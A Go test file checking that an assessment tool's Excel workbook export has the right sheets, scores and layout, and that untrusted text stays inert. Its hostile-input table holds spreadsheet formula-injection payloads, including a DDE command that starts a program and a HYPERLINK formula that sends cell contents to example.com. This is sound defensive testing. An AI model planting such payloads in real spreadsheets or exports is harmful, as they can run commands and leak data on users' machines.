package workbook_test

import (
	"archive/zip"
	"bytes"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/hoshitori/hoshitori/assess"
	"github.com/hoshitori/hoshitori/catalog"
	"github.com/hoshitori/hoshitori/catalog/builtin"
	"github.com/hoshitori/hoshitori/catalog/lang"
	"github.com/hoshitori/hoshitori/examples/hoshitori/workbook"
	"github.com/hoshitori/hoshitori/render"
	"github.com/hoshitori/hoshitori/score"
)

// sheetNames are the sheets in their order.
var sheetNames = map[lang.Lang][]string{
	lang.JA: {"結果", "次にすること", "すべての答え"},
	lang.EN: {"Result", "Next steps", "All answers"},
}

func sample(t testing.TB) *assess.Document {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "testdata", "files", "sample.json"))
	if err != nil {
		t.Fatal(err)
	}
	d, problems := assess.Parse(data)
	if !problems.OK() {
		t.Fatal(problems)
	}
	return d
}

func view(t testing.TB, d *assess.Document, l lang.Lang) render.View {
	t.Helper()
	for _, k := range builtin.All() {
		if k.Ref() != d.Catalog.Ref() {
			continue
		}
		a, problems := assess.Check(d, k)
		if !problems.OK() {
			t.Fatal(problems)
		}
		return render.NewView(a, score.Evaluate(a, score.Options{}), render.Options{Lang: l, Today: "2026-11-21"})
	}
	t.Fatalf("there is no catalogue %s", d.Catalog.Ref())
	return render.View{}
}

func write(t testing.TB, v render.View) (data []byte, cut int) {
	t.Helper()
	data, cut, err := workbook.Write(v)
	if err != nil {
		t.Fatal(err)
	}
	return data, cut
}

func open(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

func rowsOf(t testing.TB, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// parts returns the files inside a workbook.
func parts(t testing.TB, data []byte) map[string]string {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out[f.Name] = string(content)
	}
	return out
}

// find returns what stands beside a name on the first sheet.
func find(rows [][]string, name string) []string {
	for _, row := range rows {
		if len(row) > 1 && row[0] == name {
			return row[1:]
		}
	}
	return nil
}

func TestResultSheet(t *testing.T) {
	v := view(t, sample(t), lang.JA)
	data, cut := write(t, v)
	if cut != 0 {
		t.Errorf("%d texts were cut", cut)
	}
	f := open(t, data)
	if got := f.GetSheetList(); !slices.Equal(got, sheetNames[lang.JA]) {
		t.Fatalf("the sheets are %q", got)
	}
	rows := rowsOf(t, f, "結果")
	if rows[0][0] != "診断の結果："+v.Title {
		t.Errorf("the title is %q", rows[0])
	}
	for name, want := range map[string]string{
		"会社": "株式会社ほしぞら製作所", "診断日": "2026-11-20", "作成日": "2026-11-21", "この診断": v.Edition,
		"点数": v.Score.Headline, "いまの点数": strconv.FormatInt(v.Score.Score, 10), "満点": strconv.FormatInt(v.Score.Max, 10),
		"残りが決まったとき（最低）": strconv.FormatInt(v.Score.Low, 10), "残りが決まったとき（最高）": strconv.FormatInt(v.Score.High, 10),
		"点数の目安": v.Score.Band, v.Levels[0].Title: v.Levels[0].Verdict, "回答の状況": v.Progress, "ご注意": v.Disclaimer,
		"出典 1": v.Sources[0].Title, "カタログの要約値": v.Digest,
	} {
		if got := find(rows, name); len(got) == 0 || got[0] != want {
			t.Errorf("beside %s stands %q, want %q", name, got, want)
		}
	}
	if got := find(rows, "出典 1"); !slices.Equal(got, []string{v.Sources[0].Title, v.Sources[0].URL, v.Sources[0].Read}) {
		t.Errorf("the first source is %q", got)
	}
	all := parts(t, data)["xl/sharedStrings.xml"]
	for _, want := range slices.Concat(v.Notices, v.Score.Details, []string{v.Levels[0].Remaining, v.Levels[0].Assurance, v.CheckAfter}) {
		if !strings.Contains(all, want) {
			t.Errorf("%q is not there", want)
		}
	}
}

func TestStepsSheet(t *testing.T) {
	for l, names := range sheetNames {
		v := view(t, sample(t), l)
		data, _ := write(t, v)
		f := open(t, data)
		rows := rowsOf(t, f, names[1])
		if len(rows) != 1+len(v.Steps) {
			t.Fatalf("%v: %d rows, want a head and %d steps", l, len(rows), len(v.Steps))
		}
		for i, s := range v.Steps {
			want := []string{strconv.Itoa(s.Priority), s.Number, s.Question, s.Answer, strings.Join(s.Reasons, "\n"), s.Why, s.FirstStep}
			if got := append(rows[i+1], make([]string, len(want)-len(rows[i+1]))...); !slices.Equal(got, want) {
				t.Errorf("%v: step %d is %q, want %q", l, i, got, want)
			}
			if kind, err := f.GetCellType(names[1], "A"+strconv.Itoa(i+2)); err != nil || kind != excelize.CellTypeUnset {
				t.Errorf("%v: the priority of step %d is of type %v (%v), not a number", l, i, kind, err)
			}
		}
	}
}

// TestAnswersSheet compares the sheet with the CSV, and its numbers with the score.
func TestAnswersSheet(t *testing.T) {
	for l, names := range sheetNames {
		v := view(t, sample(t), l)
		data, _ := write(t, v)
		f := open(t, data)
		rows := rowsOf(t, f, names[2])
		head, _, _ := strings.Cut(strings.TrimPrefix(string(render.ReportCSV(v)), "\uFEFF"), "\r\n")
		head = head[:strings.LastIndexByte(head, ',')] // the notices, which stand on the first sheet here
		if got := `"` + strings.Join(rows[0], `","`) + `"`; got != head {
			t.Errorf("the head is %s, that of the CSV %s", got, head)
		}
		sum := int64(0)
		for i, item := range v.Items {
			row := append(rows[i+1], make([]string, 12)...)
			for at, want := range []string{v.Ref.String(), string(item.Item), item.Number, item.Section, item.Question, item.Answer, item.StateCode} {
				if row[at] != want {
					t.Errorf("%v: column %d of item %s is %q, want %q", l, at+1, item.Item, row[at], want)
				}
			}
			if row[7] == "" {
				continue
			}
			n, err := strconv.ParseInt(row[7], 10, 64)
			if err != nil || !strings.HasPrefix(item.Points, row[7]) {
				t.Errorf("%v: the points of item %s are %q, the view says %q", l, item.Item, row[7], item.Points)
			}
			sum += n
		}
		if sum != v.Score.Score {
			t.Errorf("%v: the points add up to %d, the score is %d", l, sum, v.Score.Score)
		}
	}
}

func TestEveryCatalog(t *testing.T) {
	for _, k := range builtin.All() {
		for l, names := range sheetNames {
			for _, state := range []catalog.State{catalog.Unanswered, catalog.Met} {
				d := assess.New(k.Ref())
				for _, item := range k.Items() {
					if state != catalog.Unanswered {
						d.Set(assess.Answer{Item: item.ID, State: state})
					}
				}
				v := view(t, d, l)
				data, _ := write(t, v)
				f := open(t, data)
				rows := rowsOf(t, f, names[0])
				if got := find(rows, map[lang.Lang]string{lang.JA: "残りが決まったとき（最低）", lang.EN: "Once the rest is known, at least"}[l]); got != nil {
					t.Errorf("%s: a range %q is shown although all or no answers are known", k.Ref(), got)
				}
				if steps := rowsOf(t, f, names[1]); len(steps) != 1+max(len(v.Steps), 1) {
					t.Errorf("%s: %d rows for %d steps", k.Ref(), len(steps), len(v.Steps))
				}
			}
		}
	}
}

func TestSameBytes(t *testing.T) {
	for l := range sheetNames {
		first, _ := write(t, view(t, sample(t), l))
		for range 10 {
			if again, _ := write(t, view(t, sample(t), l)); !bytes.Equal(first, again) {
				t.Fatalf("%v: the same view gave other bytes", l)
			}
		}
	}
}

func TestProperties(t *testing.T) {
	tests := []struct{ name, today, assessed, want, reason string }{
		{"today", "2026-11-21", "2026-11-20", "2026-11-21T00:00:00Z", "the day on which it was made"},
		{"only assessed", "", "2026-11-20", "2026-11-20T00:00:00Z", "the best day that is known"},
		{"no day", "", "", "1980-01-01T00:00:00Z", "never the clock"},
		{"no date", "=1+1", "x", "1980-01-01T00:00:00Z", "anything else would make the file invalid"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			v := view(t, sample(t), lang.JA)
			v.Today, v.AssessedOn = catalog.Date(test.today), catalog.Date(test.assessed)
			data, _ := write(t, v)
			p, err := open(t, data).GetDocProps()
			if err != nil || p.Created != test.want || p.Modified != test.want || p.Creator != "Hoshitori" || p.Language != "ja" {
				t.Errorf("the properties are %+v (%v), want the day %s: %s", p, err, test.want, test.reason)
			}
		})
	}
}

// TestPage holds every sheet to a page that one can read and print.
func TestPage(t *testing.T) {
	data, _ := write(t, view(t, sample(t), lang.JA))
	f := open(t, data)
	files := parts(t, data)
	for i, name := range sheetNames[lang.JA] {
		raw := files["xl/worksheets/sheet"+strconv.Itoa(i+1)+".xml"]
		for _, want := range []string{`fitToHeight="0"`, `fitToWidth="1"`, `orientation="landscape"`, `paperSize="9"`, `fitToPage="true"`, `state="frozen"`, `ySplit="1"`} {
			if !strings.Contains(raw, want) {
				t.Errorf("%s lacks %s", name, want)
			}
		}
		if strings.Contains(raw, "<autoFilter ") != (i > 0) {
			t.Errorf("%s: the filter is not where it should be", name)
		}
		if !strings.Contains(files["xl/workbook.xml"], "&#39;"+name+"&#39;!$1:$1") {
			t.Errorf("the first row of %s is not on every page", name)
		}
		if width, err := f.GetColWidth(name, "B"); err != nil || width == 9.140625 {
			t.Errorf("the columns of %s have no width (%v)", name, err)
		}
		id, err := f.GetCellStyle(name, "A2")
		if err != nil {
			t.Fatal(err)
		}
		if s, err := f.GetStyle(id); err != nil || s.Font.Family != "Yu Gothic" {
			t.Errorf("the style of %s is %+v (%v)", name, s, err)
		}
	}
	id, err := f.GetCellStyle("すべての答え", "E2")
	if err != nil {
		t.Fatal(err)
	}
	if s, err := f.GetStyle(id); err != nil || !s.Alignment.WrapText {
		t.Errorf("long questions are not wrapped: %+v (%v)", s, err)
	}
}

// hostile are texts that would do harm if the workbook took them for more than text, and what it shows of them.
var hostile = []struct{ name, text, want, reason string }{
	{"formula", "=1+1", "=1+1", "a formula"},
	{"command", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "a formula that starts a program"},
	{"link", `=HYPERLINK("https://example.com/?"&A1,"x")`, `=HYPERLINK("https://example.com/?"&A1,"x")`, "a formula that sends what is in a cell"},
	{"plus", "+1+1", "+1+1", "a formula"},
	{"minus", "-1+1", "-1+1", "a formula"},
	{"at", "@SUM(A1)", "@SUM(A1)", "a formula"},
	{"full-width equals", "＝1+1", "＝1+1", "a formula to a Japanese spreadsheet"},
	{"tab", "\t=1+1", "\t=1+1", "a formula to those that skip blanks"},
	{"number", "1234567890123456789", "1234567890123456789", "would lose its last digits as a number"},
	{"zeros", "007", "007", "would lose its zeros as a number"},
	{"exponent", "1e9", "1e9", "would become another number"},
	{"date", "2026/1/2", "2026/1/2", "would become a day"},
	{"truth", "TRUE", "TRUE", "would become a truth value"},
	{"error", "#REF!", "#REF!", "would become an error"},
	{"apostrophe", "'=1+1", "'=1+1", "would lose its apostrophe"},
	{"blanks", "  a  ", "  a  ", "XML would fold them"},
	{"line ends", "a\r\nb\rc\nd", "a\nb\nc\nd", "only line feeds begin a line in a cell"},
	{"controls", "a\x00\x01\x08\x0b\x1b\x1f\x7f\u0085b", "a" + strings.Repeat("\uFFFD", 8) + "b", "not allowed in XML, or shown as nothing"},
	{"no character", "a\uFFFEb\uFFFFc", "a\uFFFDb\uFFFDc", "allowed in JSON, not allowed in XML"},
	{"no UTF-8", "a\xffb", "a\uFFFDb", "cannot come out of JSON, but no file may break"},
	{"markup", `</t></si><f>1+1</f>&amp;<![CDATA[x]]>"'`, `</t></si><f>1+1</f>&amp;<![CDATA[x]]>"'`, "elements of the format"},
	{"by number", "_x0041_", "＿x0041_", "the format's own way to write an A"},
	{"numbers by number", "_x005F_x0041_x000d_", "＿x005F_x0041＿x000d_", "the format's own way to write _x0041_"},
	{"no number", "_x004_x__x00411_a_x", "_x004_x__x00411_a_x", "ordinary underscores"},
	{"emoji", "👩‍👩‍👧‍👦𠮷", "👩‍👩‍👧‍👦𠮷", "beyond the first 65,536 characters"},
	{"many lines", strings.Repeat("x\n", 300), strings.Repeat("x\n", 253) + strings.Repeat("x ", 47), "more line ends than a cell may have"},
}

func TestHostileTexts(t *testing.T) {
	for _, test := range hostile {
		t.Run(test.name, func(t *testing.T) {
			v := view(t, sample(t), lang.JA)
			everywhere(&v, test.text)
			data, cut := write(t, v)
			if cut != 0 {
				t.Errorf("%d texts were cut", cut)
			}
			f := open(t, data)
			if got := find(rowsOf(t, f, "結果"), "会社"); len(got) == 0 || got[0] != test.want {
				t.Errorf("the firm is %q, want %q: %s", got, test.want, test.reason)
			}
			for _, at := range []string{"B2", "E2", "L2"} {
				if got, err := f.GetCellValue("すべての答え", at); err != nil || got != test.want {
					t.Errorf("%s is %q (%v), want %q: %s", at, got, err, test.want, test.reason)
				}
				if kind, err := f.GetCellType("すべての答え", at); err != nil || kind != excelize.CellTypeSharedString {
					t.Errorf("%s is of type %v (%v), not a text: %s", at, kind, err, test.reason)
				}
			}
			onlyTexts(t, data)
		})
	}
}

// TestNotes puts what several people said into one cell, a line each.
func TestNotes(t *testing.T) {
	v := view(t, sample(t), lang.JA)
	v.Items[0].Respondent, v.Items[0].Notes = []string{"r1: はい", "r2: いいえ"}, []string{"=1+1"}
	data, _ := write(t, v)
	want := "r1: はい\nr2: いいえ\n=1+1"
	if got, err := open(t, data).GetCellValue("すべての答え", "L2"); err != nil || got != want {
		t.Errorf("the note is %q (%v), want %q", got, err, want)
	}
}

// everywhere puts a text into every place of a view that a document can reach.
func everywhere(v *render.View, text string) {
	v.Title, v.Edition, v.Subject, v.Progress, v.Disclaimer, v.CheckAfter, v.Digest = text, text, text, text, text, text, text
	v.Notices = []string{text}
	v.Score.Headline, v.Score.Band, v.Score.Advice, v.Score.BandDetails, v.Score.Details = text, text, text, text, []string{text}
	for i := range v.Levels {
		v.Levels[i] = render.LevelView{Title: text, Verdict: text, Remaining: text, Assurance: text}
	}
	for i := range v.Steps {
		v.Steps[i] = render.StepView{Number: text, Question: text, Answer: text, Reasons: []string{text, text}, Why: text, FirstStep: text, Priority: i + 1}
	}
	for i := range v.Items {
		v.Items[i] = render.ItemView{Item: catalog.ItemID(text), Number: text, Section: text, Question: text, Answer: text, Points: text, Notes: []string{text},
			Field: text, Clause: text, StateCode: text}
	}
	for i := range v.Sources {
		v.Sources[i] = render.SourceView{Title: text, URL: text, Read: text}
	}
}

// onlyTexts reports whatever in a workbook is neither text nor number, and XML that is not well formed.
func onlyTexts(t *testing.T, data []byte) {
	t.Helper()
	for name, content := range parts(t, data) {
		d := xml.NewDecoder(strings.NewReader(content))
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			start, ok := token.(xml.StartElement)
			if ok && slices.Contains([]string{"f", "hyperlink", "externalReference", "oleObject", "drawing"}, start.Name.Local) {
				t.Errorf("%s holds the element %s", name, start.Name.Local)
			}
			if kind := attribute(start, "t"); start.Name.Local == "c" && kind != "" && kind != "s" && kind != "n" {
				t.Errorf("%s holds a cell of the type %q", name, kind)
			}
		}
	}
}

func attribute(e xml.StartElement, name string) string {
	for _, a := range e.Attr {
		if a.Name.Local == name {
			return a.Value
		}
	}
	return ""
}

// TestEditedCells looks for the sign that keeps a text a text when somebody edits it.
func TestEditedCells(t *testing.T) {
	v := view(t, sample(t), lang.JA)
	v.Items[0].Notes, v.Items[1].Notes = []string{"=1+1"}, []string{"1+1"}
	data, _ := write(t, v)
	f := open(t, data)
	for at, want := range map[string]bool{"L2": true, "L3": false, "E2": false} {
		id, err := f.GetCellStyle("すべての答え", at)
		if err != nil {
			t.Fatal(err)
		}
		guard := f.Styles.CellXfs.Xf[id].QuotePrefix
		if got := guard != nil && *guard; got != want {
			t.Errorf("%s is guarded: %v, want %v", at, got, want)
		}
	}
}

func TestLongTexts(t *testing.T) {
	const mark = "…【長すぎるため、ここで切りました】"
	tests := []struct {
		name, text string
		cut        bool
		reason     string
	}{
		{"just fits", strings.Repeat("あ", 32767), false, "a cell may have 32,767 characters"},
		{"one more", strings.Repeat("あ", 32768), true, "one more than a cell may have"},
		{"outside the first plane", strings.Repeat("𠮷", 16384), true, "each of them counts as two"},
		{"very long", strings.Repeat("=1+1", 1<<20), true, "as long as a document may be"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			v := view(t, sample(t), lang.JA)
			v.Subject = test.text
			data, cut := write(t, v)
			if (cut == 1) != test.cut || cut > 1 {
				t.Errorf("%d texts were cut: %s", cut, test.reason)
			}
			got := find(rowsOf(t, open(t, data), "結果"), "会社")[0]
			if !test.cut && got != test.text {
				t.Errorf("the text is another one: %s", test.reason)
			}
			if kept, marked := strings.CutSuffix(got, mark); marked != test.cut || !strings.HasPrefix(test.text, kept) {
				t.Errorf("the end of the text is %q: %s", got[len(got)-60:], test.reason)
			}
			onlyTexts(t, data)
		})
	}
}
